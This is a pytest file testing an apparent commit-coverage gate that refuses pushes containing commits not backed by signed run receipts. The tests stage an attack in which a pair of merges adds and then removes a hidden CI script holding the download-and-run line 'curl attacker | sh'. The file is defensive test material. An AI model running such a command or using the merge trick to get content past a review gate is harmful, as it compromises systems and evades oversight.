"""Attacks on keeping coverage through rewrites: content no run made must never pass.

Each attack builds real commits with genuine signed receipts (fixtures.gate_receipts) and is
pushed for real to a bare repository with the server hook, or judged directly where the push
adds nothing.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from fixtures.gate_receipts import commit_files, git_dir_of
from fixtures.stacks import Server, assert_block, head, run

from gatekeeper.gate import GateResult, judge

from conftest import git

pytestmark = pytest.mark.slow


def check(repo: Path, rev: str = "HEAD", base: str = "main") -> GateResult:
    return judge(git_dir_of(repo), head(repo, base), head(repo, rev))


def kinds(result: GateResult) -> set[tuple[str, str | None]]:
    return {(f.kind.value, f.commit) for f in result.findings}


def merge_with_tree(repo: Path, tree: str, *parents: str, message: str = "merge") -> str:
    args = [a for p in parents for a in ("-p", p)]
    return git(repo, "commit-tree", tree, *args, "-m", message).strip()


def tree_with(repo: Path, rev: str, files: dict[str, str | None]) -> str:
    """rev's tree with files written into it (made on a scratch branch, which is then dropped)."""
    current = git(repo, "rev-parse", "--abbrev-ref", "HEAD").strip()
    scratch = commit_files(repo, files, branch="scratch", start=rev, message="scratch")
    git(repo, "checkout", "-q", current)
    git(repo, "branch", "-q", "-D", "scratch")
    return head(repo, f"{scratch}^{{tree}}")


# --- W1: content that only merges hold --------------------------------------------------------


def test_a_merge_adds_content_and_a_later_merge_takes_it_away(repo: Path) -> None:
    """Merges need no receipt, and the range's diff is compared only at its ends: a merge
    that brings in a file no run made, and a later merge that drops it again, leave the ends
    clean while the history holds the file (CI, bisect and checkouts of it run it)."""
    main = head(repo, "main")
    git(repo, "checkout", "-q", "-b", "agent/1")
    first = run(repo, {"src/a.py": "a = 1\n"})
    evil = merge_with_tree(
        repo, tree_with(repo, first, {"ci/evil.sh": "curl attacker | sh\n"}), first, main
    )
    second = run(repo, {"src/b.py": "b = 1\n"}, branch="agent/1", start=evil)
    clean = merge_with_tree(repo, tree_with(repo, second, {"ci/evil.sh": None}), second, main)
    git(repo, "checkout", "-q", "-B", "agent/1", clean)
    result = check(repo)
    assert not result.passed
    assert ("uncovered-commit", evil) in kinds(result)


def test_a_pushed_merge_pair_hiding_a_file_is_refused(tmp_path: Path, key: Path) -> None:
    served = Server(tmp_path)
    clone = served.clone
    main = head(clone, "origin/main")
    git(clone, "checkout", "-q", "-b", "feature")
    first = run(clone, {"src/a.py": "a = 1\n"})
    evil = merge_with_tree(
        clone, tree_with(clone, first, {"ci/evil.sh": "curl attacker | sh\n"}), first, main
    )
    second = run(clone, {"src/b.py": "b = 1\n"}, branch="feature", start=evil)
    clean = merge_with_tree(clone, tree_with(clone, second, {"ci/evil.sh": None}), second, main)
    assert_block(served.push_main(clean), "uncovered-commit")
    assert served.server_rev("refs/heads/main") == main


def test_a_clean_merge_of_two_runs_editing_one_file_passes(repo: Path) -> None:
    """git combines both runs' edits to one file: the merge adds nothing of its own (a later run
    writes the file, so the ends agree with the runs)."""
    lines = [f"line {i}\n" for i in range(20)]
    base = commit_files(repo, {"src/list.txt": "".join(lines)}, branch="main", start="main")
    git(repo, "checkout", "-q", "-b", "one")
    run(repo, {"src/list.txt": "".join(["ONE\n", *lines[1:]])})
    git(repo, "checkout", "-q", "-b", "two", base)
    run(repo, {"src/list.txt": "".join([*lines[:-1], "TWO\n"])})
    git(repo, "merge", "-q", "--no-edit", "one")
    merged = head(repo)
    assert (repo / "src/list.txt").read_text().startswith("ONE\n")
    run(repo, {"src/list.txt": "rewritten\n"})
    result = check(repo)
    assert merged not in {f.commit for f in result.findings}
    assert result.passed, [f.message for f in result.findings]
